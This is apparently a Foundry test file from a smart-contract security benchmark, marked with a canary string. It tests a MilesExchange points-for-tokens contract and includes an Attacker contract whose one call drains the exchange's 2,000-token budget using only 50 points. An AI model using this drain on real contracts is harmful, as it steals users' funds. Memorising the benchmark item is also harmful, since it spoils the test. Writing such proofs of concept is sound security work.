// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./MilesExchange.sol";

// assay-canary-7302bbce-9f79-47a5-8fdb-ed987c768db8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 100_000 ether);
    }
}

// Gives points to members as its maker says, and knows one exchange.
contract Airline is IProgramme {
    address private maker = msg.sender;
    address private exchange;
    mapping(address => uint256) public pointsOf;

    function enrol(address exchange_) external {
        require(msg.sender == maker, "maker only");
        exchange = exchange_;
    }

    function give(address member, uint256 points) external {
        require(msg.sender == maker, "maker only");
        pointsOf[member] += points;
    }

    function spend(address member, uint256 points) external returns (uint256 spent) {
        require(msg.sender == exchange, "exchange only");
        spent = pointsOf[member] < points ? pointsOf[member] : points;
        pointsOf[member] -= spent;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant SUE = address(0x50E);

    Coin public coin;
    Airline private air;
    Airline private hotel;
    MilesExchange private desk;
    Attacker private mallory;

    function setUp() public {
        coin = new Coin();
        air = new Airline();
        hotel = new Airline();
        desk = new MilesExchange(coin);
        air.enrol(address(desk));
        hotel.enrol(address(desk));
        desk.addProgramme(air, SUE, 0.02 ether);
        coin.approve(address(desk), 10_000 ether);
        desk.payIn(air, 2_000 ether);
        air.give(ANA, 30_000 ether);
        mallory = new Attacker(desk, air);
        air.give(address(mallory), 50 ether);
    }

    function test_Regular() public {
        require(desk.worth(air, 10_000 ether) == 200 ether, "worth");
        vm.prank(ANA);
        require(desk.exchange(air, 10_000 ether, 200 ether) == 200 ether, "exchanged");
        require(coin.balanceOf(ANA) == 200 ether && air.pointsOf(ANA) == 20_000 ether, "paid");
        vm.startPrank(SUE);
        desk.setRate(air, 0.01 ether);
        desk.takeOut(air, BEN, 100 ether);
        vm.stopPrank();
        require(coin.balanceOf(BEN) == 100 ether, "taken out");
        vm.prank(ANA);
        require(desk.exchange(air, 20_000 ether, 0) == 200 ether, "the rest");
        (address treasurer, uint256 rate, uint256 budget, uint256 spent) = desk.deskOf(air);
        require(treasurer == SUE && rate == 0.01 ether && budget == 1_500 ether && spent == 30_000 ether, "books");
        desk.addProgramme(hotel, BEN, 1 ether);
        desk.payIn(hotel, 10 ether);
        desk.setClosed(true);
        require(desk.closed(), "closed");
        desk.transferOwnership(ANA);
        vm.startPrank(ANA);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("coin is zero");
        new MilesExchange(IERC20(address(0)));
        vm.expectRevert("known already");
        desk.addProgramme(air, BEN, 1);
        vm.expectRevert("address is zero");
        desk.addProgramme(IProgramme(address(0)), BEN, 1);
        vm.expectRevert("address is zero");
        desk.addProgramme(hotel, address(0), 1);
        vm.expectRevert("rate is zero");
        desk.addProgramme(hotel, BEN, 0);
        vm.startPrank(SUE);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, SUE));
        desk.addProgramme(hotel, SUE, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, SUE));
        desk.setClosed(true);
        vm.expectRevert("rate is zero");
        desk.setRate(air, 0);
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.OverBudget.selector, 2_001 ether, 2_000 ether));
        desk.takeOut(air, SUE, 2_001 ether);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.NotTreasurer.selector, address(this)));
        desk.setRate(air, 1);
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.NotTreasurer.selector, address(this)));
        desk.takeOut(air, BEN, 1);
    }

    function test_RefusesMembers() public {
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.Unknown.selector, hotel));
        desk.payIn(hotel, 1);
        hotel.give(ANA, 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.Unknown.selector, hotel));
        desk.exchange(hotel, 1, 0);
        vm.prank(BEN);
        vm.expectRevert("no points");
        desk.exchange(air, 1, 0);
        vm.prank(ANA);
        vm.expectRevert("rate is worse now");
        desk.exchange(air, 10_000 ether, 200 ether + 1);
        vm.prank(SUE);
        desk.setRate(air, 1 ether);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(MilesExchange.OverBudget.selector, 3_000 ether, 2_000 ether));
        desk.exchange(air, 3_000 ether, 0);
        desk.setClosed(true);
        vm.prank(ANA);
        vm.expectRevert("closed");
        desk.exchange(air, 1, 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) == 2_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    MilesExchange private desk;
    IProgramme private air;

    constructor(MilesExchange d, IProgramme a) {
        desk = d;
        air = a;
    }

    // has fifty points
    function run() external {
        desk.exchange(air, 100_000 ether, 0);
    }
}
